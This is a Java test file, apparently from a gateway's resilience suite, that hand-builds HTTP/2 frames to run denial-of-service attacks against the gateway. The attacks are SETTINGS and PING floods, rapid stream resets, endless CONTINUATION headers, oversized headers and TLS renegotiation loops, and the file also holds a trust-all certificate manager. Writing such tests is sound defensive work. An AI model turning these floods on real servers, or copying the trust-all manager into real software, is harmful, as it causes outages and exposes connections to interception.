package dev.fanlight.gateway.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.IOException;
import java.net.Socket;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.time.Duration;
import java.util.List;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** Clients that speak HTTP/2 without TLS, and TLS without need. */
final class Http2Attacks {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM = 1;
  private static final int END_HEADERS = 4;

  private Http2Attacks() {}

  static List<Attack> all() {
    return List.of(
        Attack.of("floods with SETTINGS", floods(SETTINGS, "")).wholly(),
        Attack.of("floods with PING", floods(PING, "12345678")).wholly(),
        Attack.of("resets its streams at once", Http2Attacks::resets, "fanlight_requests_total"),
        Attack.of("never ends its head", Http2Attacks::endlessHead).wholly(),
        Attack.of("sends a large head", requests("GET", "/own/1", "x".repeat(70_000))).wholly(),
        Attack.of("sends a method that is none", requests("G T", "/own/1", "x")).wholly(),
        Attack.of(
                "takes nothing of its streams",
                requests("GET", "/h2c/3000000", "x"),
                "fanlight_calls_total{upstream=\"h2c\"}")
            .beside("/h2c/"),
        Attack.of("renegotiates", Http2Attacks::renegotiate));
  }

  private static Attack.Attacker floods(int type, String payload) {
    String many = frame(type, 0, 0, payload).repeat(1_000);
    return ground -> {
      try (Socket socket = begin(ground)) {
        while (!ground.over()) {
          Ground.send(socket, many);
        }
      }
    };
  }

  private static Socket begin(Ground ground) throws IOException {
    Socket socket = ground.connect();
    Ground.send(socket, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, ""));
    return socket;
  }

  private static void resets(Ground ground) throws IOException {
    try (Socket socket = begin(ground)) {
      for (int stream = 1; !ground.over(); stream += 2) {
        String head = frame(HEADERS, END_HEADERS | END_STREAM, stream, block("GET", "/up/1", "x"));
        Ground.send(socket, head + frame(RST_STREAM, 0, stream, "\0\0\0\10"));
      }
    }
  }

  private static void endlessHead(Ground ground) throws IOException {
    try (Socket socket = begin(ground)) {
      Ground.send(socket, frame(HEADERS, END_STREAM, 1, block("GET", "/own/1", "x")));
      while (!ground.over()) {
        Ground.send(socket, frame(CONTINUATION, 0, 1, field("y", "z".repeat(1_000))));
      }
    }
  }

  /** Many at once, whose answers are not taken beyond the first window. */
  private static Attack.Attacker requests(String method, String path, String field) {
    return ground -> {
      try (Socket socket = begin(ground)) {
        for (int stream = 1; stream < 40 && !ground.over(); stream += 2) {
          Ground.send(socket, head(stream, block(method, path, field)));
        }
        socket.getInputStream().readNBytes(200);
        ground.pause(Duration.ofSeconds(1));
      }
    };
  }

  private static String head(int stream, String block) {
    int most = 16 * 1024;
    if (block.length() <= most) {
      return frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
    }
    StringBuilder frames =
        new StringBuilder(frame(HEADERS, END_STREAM, stream, block.substring(0, most)));
    for (int from = most; from < block.length(); from += most) {
      int to = Math.min(block.length(), from + most);
      int flags = to == block.length() ? END_HEADERS : 0;
      frames.append(frame(CONTINUATION, flags, stream, block.substring(from, to)));
    }
    return frames.toString();
  }

  private static String block(String method, String path, String more) {
    return field(":method", method)
        + field(":scheme", "http")
        + field(":path", path)
        + field(":authority", "a")
        + field("x", more);
  }

  /** A literal that is not indexed: RFC 7541, section 6.2.2. */
  static String field(String name, String value) {
    return "\0" + text(name) + text(value);
  }

  /** Literal, without Huffman's code: RFC 7541, section 5.2. */
  private static String text(String value) {
    StringBuilder prefix = new StringBuilder();
    int rest = value.length();
    if (rest < 127) {
      prefix.append((char) rest);
    } else {
      prefix.append((char) 127);
      for (rest -= 127; rest >= 128; rest /= 128) {
        prefix.append((char) (rest % 128 + 128));
      }
      prefix.append((char) rest);
    }
    return prefix + value;
  }

  static String frame(int type, int flags, int stream, String payload) {
    int length = payload.length();
    byte[] head = {
      (byte) (length >> 16),
      (byte) (length >> 8),
      (byte) length,
      (byte) type,
      (byte) flags,
      (byte) (stream >> 24),
      (byte) (stream >> 16),
      (byte) (stream >> 8),
      (byte) stream
    };
    return new String(head, ISO_8859_1) + payload;
  }

  private static void renegotiate(Ground ground) throws IOException {
    int port = ground.gateway().port("secure");
    try (Socket plain = ground.connect(port);
        SSLSocket socket =
            (SSLSocket) trustAll().getSocketFactory().createSocket(plain, "a", port, true)) {
      socket.setEnabledProtocols(new String[] {"TLSv1.2"});
      while (!ground.over()) {
        socket.startHandshake();
        socket.getOutputStream().write(Ground.get("/own/1").getBytes(ISO_8859_1));
      }
    }
  }

  private static SSLContext trustAll() {
    try {
      SSLContext context = SSLContext.getInstance("TLS");
      context.init(null, new TrustManager[] {new TrustsAll()}, null);
      return context;
    } catch (GeneralSecurityException failure) {
      throw new AssertionError(failure);
    }
  }

  private static final class TrustsAll implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
